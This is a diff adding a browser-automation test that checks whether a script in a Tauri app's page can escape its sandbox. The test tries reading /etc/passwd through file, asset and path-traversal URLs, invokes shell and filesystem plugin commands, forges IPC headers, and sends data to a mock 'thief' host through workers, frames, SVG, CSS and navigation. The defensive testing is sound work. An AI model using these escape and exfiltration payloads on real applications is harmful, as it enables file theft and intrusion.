@@ -221,6 +221,122 @@ describe("a script in the page", () => {
     assert.equal((await window.browser.getWindowHandles()).length, 1, "and no other window opened");
   });
 
+  it("reads no file and reaches nobody by other addresses, workers or the transport of commands", async () => {
+    const requested = thief.requests.length;
+    const connected = thief.connections.length;
+    const gained = await window.browser.execute(async (url) => {
+      const soon = () => new Promise((resolve) => setTimeout(resolve, 1500));
+      const got = [];
+      const attempt = (name, way) =>
+        Promise.race([
+          soon(),
+          Promise.resolve()
+            .then(way)
+            .then((gain) => gain && got.push(`${name}: ${String(gain).slice(0, 80)}`))
+            .catch(() => undefined),
+        ]);
+      const text = (address, given) => async () => {
+        const answer = await fetch(address, given);
+        return answer.ok && (await answer.text());
+      };
+      const command = (headers, body = "{}") =>
+        text("ipc://localhost/plugin%3Apath%7Cresolve_directory", { method: "POST", headers, body });
+      const own = window.__TAURI_INTERNALS__;
+      await Promise.all([
+        ...["file:///etc/passwd", "file:/etc/hostname", "asset://localhost/etc/passwd", "http://asset.localhost/etc/passwd",
+          "safe-mode://localhost/", "http://safe-mode.localhost/", "safe-mode://localhost/move-aside"].map((address) =>
+          attempt(address, text(address))),
+        attempt("a path above", async () => {
+          const found = await text("tauri://localhost/..%2f..%2f..%2f..%2fetc%2fpasswd")();
+          return /root:/.test(found || "") && found;
+        }),
+        ...[
+          {},
+          { "Tauri-Callback": "1", "Tauri-Error": "2" },
+          { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "x" },
+          { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "x", Origin: "tauri://localhost" },
+        ].map((headers, at) => attempt(`the transport, ${at}`, command(headers, '{"directory":21}'))),
+        ...["plugin:fs|read_text_file", "plugin:shell|execute", "plugin:http|fetch", "plugin:opener|open_url",
+          "plugin:dialog|open", "plugin:process|exit", "plugin:event|emit", "plugin:window|get_all_windows",
+          "plugin:webview|create_webview", "plugin:resources|close", "plugin:menu|new", "plugin:tray|new",
+          "plugin:image|from_path", "plugin:window-state|restore_state", "plugin:deep-link|get_current",
+          "plugin:path|join", "no_such_command"].map((name) =>
+          attempt(name, () => own.invoke(name, { path: "/etc/passwd", program: "id", url, cmd: "id", options: {} }).then(() => "done"))),
+        attempt("another window's name", () => {
+          try {
+            own.metadata.currentWindow.label = "safe-mode";
+            own.metadata.currentWebview.label = "safe-mode";
+          } catch {
+            // It cannot be changed.
+          }
+          return own.invoke("plugin:window|close", {}).then(() => "done");
+        }),
+        attempt("a file by its address", () => own.convertFileSrc && text(own.convertFileSrc("/etc/passwd"))()),
+        attempt("a worker of one's own", () => new Promise((resolve) => {
+          const blob = new Blob([`fetch("${url}/of-a-worker", { mode: "no-cors" }).then(() => postMessage("reached"))`]);
+          const worker = new Worker(URL.createObjectURL(blob));
+          worker.onmessage = ({ data }) => resolve(data);
+        })),
+        attempt("a shared worker", () => new SharedWorker(`${url}/shared.js`) && null),
+        attempt("a worklet", () => new AudioContext().audioWorklet.addModule(`${url}/worklet.js`).then(() => "loaded")),
+        attempt("a transport", () => new WebTransport(url.replace("http:", "https:")).ready.then(() => "ready")),
+        attempt("a socket of another kind", () => new WebSocket(`${url.replace("http", "wss")}/s`) && null),
+        attempt("a frame of its own", () => {
+          const frame = document.createElement("iframe");
+          document.body.append(frame);
+          return frame.contentWindow?.fetch?.(`${url}/of-a-frame`, { mode: "no-cors" }).then(() => "reached");
+        }),
+        attempt("a document of its own", () => {
+          const page = document.implementation.createHTMLDocument("");
+          page.body.innerHTML = `<img src="${url}/of-a-document">`;
+          document.body.append(document.importNode(page.body.firstChild, true));
+        }),
+        attempt("the clipboard", () => navigator.clipboard.readText()),
+        attempt("a share", () => navigator.share({ url }).then(() => "shared")),
+        attempt("a payment", () => new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment()),
+        attempt("a login", () => navigator.credentials.get({ password: true })),
+      ]);
+      for (const [name, attributes] of [
+        ["link", { rel: "stylesheet", href: "file:///etc/passwd" }],
+        ["iframe", { src: "file:///etc/passwd" }],
+        ["iframe", { src: `data:text/html,<img src="${url}/of-data">` }],
+        ["iframe", { src: `javascript:parent.fetch("${url}/of-a-script")` }],
+        ["svg", {}],
+        ["input", { type: "image", src: `${url}/input` }],
+        ["track", { src: `${url}/track`, default: "" }],
+        ["portal", { src: url }],
+        ["fencedframe", { src: url }],
+      ]) {
+        const element = document.createElement(name);
+        for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
+        document.body.append(element);
+      }
+      document.body.insertAdjacentHTML(
+        "beforeend",
+        `<svg><image href="${url}/svg-image"/><use href="${url}/svg-use#x"/><style>@import "${url}/svg-style";</style></svg>
+         <math><mtext href="${url}/math">x</mtext></math><div style="list-style: url(${url}/list); mask: url(${url}/mask)">x</div>
+         <picture><source srcset="${url}/picture"><img></picture>`,
+      );
+      for (const target of ["file:///etc/passwd", "asset://localhost/etc/passwd", "safe-mode://localhost/restart", `javascript:void fetch("${url}/navigated-script")`, "data:text/html,x", "blob:null/x", "about:blank#x"]) {
+        try {
+          location.assign(target);
+        } catch {
+          // A refusal.
+        }
+      }
+      await soon();
+      return got;
+    }, thief.url);
+    assert.deepEqual(gained, [], "nothing was gained");
+    assert.match(await window.browser.execute(() => location.href), /^tauri:|^http:\/\/tauri\.localhost/, "it is where it was");
+    const reached = thief.requests.slice(requested).map((request) => request.path);
+    assert.deepEqual(reached, [], "nothing reached the other host");
+    assert.deepEqual(thief.connections.slice(connected), [], "nor was a connection made to it");
+    await window.browser.execute(() => location.reload());
+    await window.browser.pause(500);
+    assert.equal((await window.browser.getWindowHandles()).length, 1, "and no other window opened");
+  });
+
   it("changes nothing that every object has", async () => {
     const [frozen, polluted] = await window.browser.execute(() => {
       for (const pollute of [
